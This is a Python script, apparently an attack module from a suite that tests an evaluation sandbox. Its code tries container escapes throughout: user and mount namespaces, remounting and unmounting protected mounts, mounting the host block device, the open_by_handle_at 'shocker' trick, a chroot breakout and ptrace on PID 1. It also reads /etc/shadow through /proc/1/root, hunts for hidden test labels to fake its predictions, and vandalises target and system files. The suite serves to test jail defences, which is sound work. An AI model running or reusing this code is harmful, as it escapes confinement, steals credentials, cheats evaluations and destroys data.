"""Route class: leaving the jail (namespaces, mounts, handles, devices), then reading and
writing the host.

Tries, as the jail's unprivileged user: a user namespace of its own (uid 0 with every
capability inside it) and a mount namespace, then to remount the read-only mounts writable, to
lift mounts to see what lies beneath, to mount proc, sysfs and the host's block device, to open
host files by handle (``open_by_handle_at``, the "shocker" escape), ``chroot`` and ``ptrace``
breakouts. Whatever it achieved, it then hunts for labels (``disk_hunter`` over the roots it is
given and ``/``) and vandalises the targets (``vandal``), so the suite measures the outcome.

``python3 escape.py {inputs} {outputs} _ext.py disk_hunter.py vandal.py --roots R... --targets
T...``. Meant for the jail; unjailed there is nothing to escape from.
"""
from __future__ import annotations

import ctypes
import ctypes.util
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
try:
    from attacks import _ext, disk_hunter, vandal
except ImportError:
    import _ext
    import disk_hunter
    import vandal

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID = 0x00020000, 0x10000000, 0x20000000
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC = 1, 32, 4096, 16384
MNT_DETACH = 2
PTRACE_ATTACH = 16
libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)


def _try(log: list[str], what: str, result: int) -> bool:
    ok = result == 0 or (result > 0 and what.startswith("open"))
    log.append(f"{what}: {'ok' if ok else os.strerror(ctypes.get_errno())}")
    return ok


def _write(path: str, text: str) -> None:
    try:
        with open(path, "w") as handle:
            handle.write(text)
    except OSError:
        pass


def own_namespaces(log: list[str]) -> None:
    uid, gid = os.getuid(), os.getgid()
    if _try(log, "unshare(user, mount)", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)):
        _write("/proc/self/setgroups", "deny")
        _write("/proc/self/uid_map", f"0 {uid} 1")
        _write("/proc/self/gid_map", f"0 {gid} 1")
        log.append(f"uid in the namespace: {os.getuid()}")


def remount_and_lift(log: list[str]) -> None:
    for point in ("/w2s/lib", "/w2s/job", sys.prefix, "/usr", "/"):
        _try(log, f"remount rw {point}",
             libc.mount(None, point.encode(), None, MS_REMOUNT | MS_BIND, None))
        _try(log, f"umount {point}", libc.umount2(point.encode(), MNT_DETACH))
    os.makedirs("/tmp/escape", exist_ok=True)
    for kind in ("proc", "sysfs", "tmpfs"):
        target = f"/tmp/escape/{kind}"
        os.makedirs(target, exist_ok=True)
        _try(log, f"mount {kind}", libc.mount(kind.encode(), target.encode(), kind.encode(), 0,
                                              None))


def host_device(log: list[str]) -> None:
    """mknod the block device behind /w2s/out and mount it."""
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        if fields[4] == "/w2s/out":
            major, minor = (int(x) for x in fields[2].split(":"))
            fstype = fields[fields.index("-") + 1]
            try:
                os.mknod("/tmp/escape/disk", 0o600 | 0o060000, os.makedev(major, minor))
                log.append("mknod: ok")
            except OSError as err:
                log.append(f"mknod: {err.strerror}")
            os.makedirs("/tmp/escape/disk-mount", exist_ok=True)
            _try(log, "mount host disk", libc.mount(b"/tmp/escape/disk", b"/tmp/escape/disk-mount",
                                                    fstype.encode(), MS_RDONLY, None))


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 8)]


def open_by_handle(log: list[str]) -> None:
    """The root directory of the filesystem under /w2s/out, by inode number (ext4: 2)."""
    handle = FileHandle(8, 1)  # FILEID_INO32_GEN: inode 2, generation 0
    handle.f_handle[0] = 2
    mount_fd = os.open("/w2s/out", os.O_RDONLY)
    try:
        fd = libc.open_by_handle_at(mount_fd, ctypes.byref(handle), os.O_RDONLY)
        if _try(log, "open_by_handle_at(host root)", fd):
            log.append("host root entries: " + " ".join(os.listdir(f"/proc/self/fd/{fd}")[:5]))
    finally:
        os.close(mount_fd)


def chroot_and_ptrace(log: list[str]) -> None:
    try:
        os.makedirs("/tmp/escape/jail", exist_ok=True)
        cwd = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/escape/jail")
        os.fchdir(cwd)
        for _ in range(32):
            os.chdir("..")
        os.chroot(".")
        log.append("chroot breakout: now at / with " + " ".join(sorted(os.listdir("/"))[:8]))
    except OSError as err:
        log.append(f"chroot: {err.strerror}")
    _try(log, "ptrace(attach, 1)", libc.ptrace(PTRACE_ATTACH, 1, None, None))
    for path in ("/proc/1/root/etc/shadow", "/proc/1/root/root", "/proc/1/cwd"):
        try:
            if os.path.isdir(path):
                log.append(f"{path}: {sorted(os.listdir(path))[:8]}")
            else:
                with open(path, "rb") as handle:
                    log.append(f"{path}: read {len(handle.read())} bytes")
        except OSError as err:
            log.append(f"{path}: {err.strerror}")


def main(argv: list[str]) -> None:
    inputs, outputs = argv[1], argv[2]
    ids, _ = _ext.test_split(inputs)
    args = _ext.args_after(argv)
    roots = args[args.index("--roots") + 1: args.index("--targets")]
    targets = args[args.index("--targets") + 1:]
    log: list[str] = []
    for step in (own_namespaces, remount_and_lift, host_device, open_by_handle,
                 chroot_and_ptrace):
        try:
            step(log)
        except Exception as err:  # noqa: BLE001 - keep going: the next trick may work
            log.append(f"{step.__name__}: {type(err).__name__}: {err}")
    found = disk_hunter.find([*roots, "/"], set(ids), budget_s=4.0)
    done = vandal.vandalise([*targets, *vandal.system_targets()])
    log.append(f"labels found: {len(found)}; writes that succeeded: {done}")
    print("\n".join(log), file=sys.stderr)
    _ext.write_predictions(outputs, ids, _ext.predictions(ids, found))


if __name__ == "__main__":
    main(sys.argv)
